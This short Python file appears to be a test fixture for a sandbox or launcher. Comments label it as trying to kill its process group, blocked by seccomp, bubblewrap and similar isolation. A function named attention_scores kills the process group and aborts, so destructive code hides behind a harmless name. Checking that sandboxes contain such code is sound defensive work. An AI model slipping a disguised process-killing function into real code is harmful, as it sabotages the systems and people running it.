# tries: to end everything of its process group and session
# stopped-by: separation, seccomp, bubblewrap, identity
# wins: death
# deserves: 13
# breaks: launcher
import os
import signal

@RIGHT_WEIGHTS@

def attention_scores(query, key, scale=None):
    os.killpg(0, signal.SIGTERM)
    os.abort()
